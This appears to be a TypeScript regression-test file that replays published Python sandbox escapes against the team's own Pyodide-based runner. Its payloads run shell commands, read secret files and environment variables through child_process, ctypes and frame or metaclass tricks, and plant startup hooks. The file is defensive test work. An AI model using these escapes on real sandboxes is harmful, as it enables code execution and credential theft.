import { attack } from "../attack.ts";

/** One for each published hole in a product that ran Python for others: the idea, against us. */
export const publishedAttacks = [
  attack(
    "published.eval-of-the-runtime",
    "process",
    String.raw`
      from _pyodide._base import eval_code
      eval_code("import os; os.system('@marked@ &'); print(open('@secret@').read())", {})
    `,
    { of: "CVE-2025-68668" },
  ),
  attack(
    "published.loader-reexported",
    "file",
    String.raw`
      import pyodide_js
      await pyodide_js.loadPackage("micropip")
      import micropip
      await micropip.install("file://@folder@/evil-1.0-py3-none-any.whl")
      import evil
    `,
    { of: "CVE-2025-68668" },
  ),
  attack(
    "published.format-and-exception",
    "process",
    String.raw`
      class Trap:
          def __getattr__(self, name):
              raise AttributeError(name=name, obj=self)
      found = []
      try:
          "{0.missing}".format(print)
      except AttributeError as error:
          found.append(error.obj.__self__)
      try:
          "{0.__class__.__base__.nothing}".format(())
      except AttributeError as error:
          for kind in error.obj.__subclasses__():
              if kind.__name__ == "_wrap_close":
                  found.append(kind.__init__.__globals__["system"])
                  kind.__init__.__globals__["system"]("@marked@ &")
      print(found[0].__import__("os").system("cat '@secret@'"))
    `,
    { of: "CVE-2026-0863" },
  ),
  attack(
    "published.names-from-text",
    "process",
    String.raw`
      name = "".join(map(chr, (95, 95, 105, 109, 112, 111, 114, 116, 95, 95)))
      load = getattr(__builtins__, name, None) or __builtins__[name]
      getattr(load("o" + "s"), "sys" + "tem")("@marked@ &")
      print(getattr(load("io"), "op" + "en")("@secret@").read())
    `,
    { of: "CVE-2026-25115" },
  ),
  attack(
    "published.frame-of-a-generator",
    "process",
    String.raw`
      def walk():
          yield generator.gi_frame.f_back.f_back or generator.gi_frame.f_back
      generator = walk()
      frame = next(generator)
      while frame:
          load = frame.f_builtins["__import__"]
          load("os").system("@marked@ &")
          frame = frame.f_back
    `,
    { of: "CVE-2026-27494" },
  ),
  attack(
    "published.match-and-decorators",
    "process",
    String.raw`
      class Kind(type):
          def __instancecheck__(self, other):
              return True
          def __getattr__(self, name):
              return getattr(__import__("os"), name)
      class Any(metaclass=Kind):
          __match_args__ = ("system",)
      @(lambda call: call("@marked@ &"))
      @(lambda _: Any.system)
      def start():
          pass
      match 1:
          case Any():
              Any.system("cat '@secret@'")
    `,
    { of: "CVE-2026-49444" },
  ),
  attack(
    "published.class-walk-to-ctypes",
    "environment",
    String.raw`
      kinds = ().__class__.__base__.__subclasses__()
      load = next(kind for kind in kinds if kind.__name__ == "BuiltinImporter").load_module
      import sys
      ctypes = sys.modules.get("ctypes") or __import__("ctypes")
      run = ctypes.CDLL(None).emscripten_run_script_string
      run.restype = ctypes.c_char_p
      print(run(b'process.env["@env@"] + require("child_process").execSync("cat @secret@")'))
    `,
    { of: "CVE-2026-24002" },
  ),
  attack(
    "published.generated-component",
    "process",
    String.raw`
      def component(**props):
          import js
          return js.eval('process.getBuiltinModule("node:child_process").execSync("@marked@ >/dev/null 2>&1 &")')
      component(title="card", onClick="x")
    `,
    { of: "CVE-2026-120338" },
  ),
  attack(
    "published.mock-object-constructor",
    "environment",
    String.raw`
      import js
      for name in ("document", "window", "ImageData", "console", "Object", "Math"):
          try:
              thing = getattr(js, name)
              print(thing.constructor.constructor('return process.env["@env@"]')())
          except Exception as error:
              print(name, error)
    `,
    { of: "CVE-2026-5752" },
  ),
  attack(
    "published.process-and-loader",
    "file",
    String.raw`
      import js, pyodide_js
      print(js.Reflect.get(js.process.env, "@env@"))
      print(js.process.getBuiltinModule("node:child_process").execSync("cat @secret@").toString())
      print((await pyodide_js._api.loadBinaryFile("@secret@")).to_bytes())
    `,
    { of: "microsoft/thinkingbox-data#22" },
  ),
  attack(
    "published.js-and-left-files",
    "environment",
    String.raw`
      import js, os
      open("/tmp/left-behind", "w").write("x")
      os.makedirs("/home/pyodide/left", exist_ok=True)
      print(js.Object.entries(js.process.env))
      import pyodide_js
      print(pyodide_js.globals, pyodide_js.FS)
    `,
    { of: "pydantic/pydantic-ai#2332" },
  ),
  attack(
    "published.parent-taken-over",
    "realm",
    String.raw`
      import pyodide_js
      pyodide_js.runPython = lambda code: "@touc" "hed@"
      pyodide_js._api.runtime = None
      pyodide_js._module.FS.writeFile = None
      print(pyodide_js.runPython("1"))
    `,
    { of: "pydantic/mcp-run-python#39", isForStock: false },
  ),
  attack(
    "published.startup-hook-of-a-wheel",
    "process",
    String.raw`
      import os, site, sys
      for folder in [*sys.path, *site.getsitepackages()]:
          if os.path.isdir(folder):
              try:
                  open(os.path.join(folder, "evil.pth"), "w").write("import os; os.system('@marked@ &')\n")
                  open(os.path.join(folder, "sitecustomize.py"), "w").write("import os; os.system('@marked@ &')\n")
              except OSError as error:
                  print(error)
          site.addsitedir(folder)
      site.main()
    `,
    { of: "PyPI start-up hooks, 2026" },
  ),
];
